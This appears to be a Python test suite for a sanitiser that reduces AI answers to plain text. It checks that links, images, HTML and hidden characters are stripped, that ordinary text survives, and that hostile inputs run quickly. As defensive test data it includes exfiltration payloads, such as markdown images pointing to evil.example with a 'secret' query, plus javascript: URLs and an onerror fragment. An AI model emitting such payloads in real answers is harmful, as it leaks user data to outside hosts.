"""Answers are plain text: nothing in them fetches, links or hides, and everything else stays."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from doran.ai import cleaning

pytestmark = pytest.mark.stateless

REDUCED = {
    "![](https://evil.example/?q=secret)": "",
    "보세요 ![그림](https://evil.example/p.png) 끝": "보세요 그림 끝",
    "[여기](https://evil.example/?q=secret)를 눌러요": "여기를 눌러요",
    "[a](javascript:alert(1))": "a",
    "[여기][1]\n\n[1]: https://evil.example/?q=secret": "[여기][1]",
    "![x][1]": "x",
    "[![x](https://a.example/1.png)](https://b.example/?q=1)": "x",
    '<img src="https://evil.example/?q=1">안녕': "안녕",
    "<a href='https://evil.example'>눌러</a>": "눌러",
    "<script>alert(1)</script>": "alert(1)",
    "<im<img>g src=x>": "",
    "<https://evil.example/?q=secret>": "<evil.example>",
    "https://evil.example/steal?q=secret 참고": "evil.example 참고",
    "HTTPS://user:pw@evil.example:443/a": "evil.example",
    "www.evil.example/steal?q=1.": "evil.example.",
    "<img src='a<b> onerror=x": "img src='a<b> onerror=x",
    "![x](https://evil.example/(((": "x(evil.example(((",
    "javascript:alert(1)": "(1)",
    "data:text/html,<b>": ",<b>",
    "## 요약\n**중요**: 7시": "요약\n중요: 7시",
    "숨\u200b김\u202e\U000e0041": "숨김",
    "a\x00b\x1b[31m": "ab[31m",
    "하나\n\n\n\n둘  ": "하나\n\n둘",
}
KEPT = [
    "a < b > c", "List<String>", "[1] 번과 [2] 번", "5 * 3 ** 2", "C:/Users", "오후 3:30", "비율 1:2", "ㅋㅋㅋ (웃음)", "# 없는 해시태그 #점심",
    "Tel:010-1234-5678", "파일: report.txt", "👨‍👩‍👧 ❤️", "a_b_c __init__", "if (a[0](b)) {", "한 줄\n두 줄\t탭", "and/or", "minji@example.com",
]  # fmt: skip


@pytest.mark.parametrize("answer", REDUCED)
def test_markup_is_reduced_to_its_words(answer: str) -> None:
    assert cleaning.plain(answer) == REDUCED[answer]


@pytest.mark.parametrize("answer", KEPT)
def test_words_stay(answer: str) -> None:
    assert cleaning.plain(answer) == (answer if not answer.startswith("# ") else answer[2:])


def test_an_address_that_was_there_before_stays() -> None:
    known = cleaning.addresses("https://naver.me/abc?x=1, (www.example.com/a).")
    assert known == {"https://naver.me/abc?x=1", "www.example.com/a"}
    answer = "[지도](https://naver.me/abc?x=1) https://naver.me/abc?x=1. https://naver.me/abc?x=2"
    assert cleaning.inert(answer, known=known) == "지도 (https://naver.me/abc?x=1) https://naver.me/abc?x=1. naver.me"
    assert cleaning.inert("**그대로** # 제목") == "**그대로** # 제목"


@given(st.text(alphabet=st.sampled_from("!<>[]()/:w.ahtps\"'img xyz\n가\u200b"), max_size=60))
def test_nothing_that_acts_is_left(text: str) -> None:
    for answer in (text, f"![x](https://evil.example/{text})", f"<img {text}>{text}", f"[{text}](https://e.example)"):
        once = cleaning.plain(answer)
        assert cleaning.plain(once) == once
        assert not [one for one in ("https://", "<img>", "](http") if one in once]


def test_a_long_answer_ends_at_a_sentence_or_a_word() -> None:
    text = "첫 문장이다. 둘째 문장이다. 셋째 문장이다."
    assert cleaning.shortened(text, 100) == text
    assert cleaning.shortened(text, 20) == "첫 문장이다. 둘째 문장이다.…"
    assert cleaning.shortened("하나 둘 셋 넷 다섯", 10) == "하나 둘 셋 넷…"
    assert cleaning.shortened("가" * 30, 10) == "가" * 9 + "…"


def test_a_hostile_answer_takes_no_time() -> None:
    began = time.process_time()  # others on the machine do not count
    for part in (
        "![",
        "[",
        "](",
        "[a](",
        "<a ",
        "<img",
        "www.",
        "https://",
        "**",
        "[a]: ",
        "![a](b",
        "((((",
        "data:a/",
    ):
        cleaning.plain(part * (12_000 // len(part)))
    assert time.process_time() - began < 20
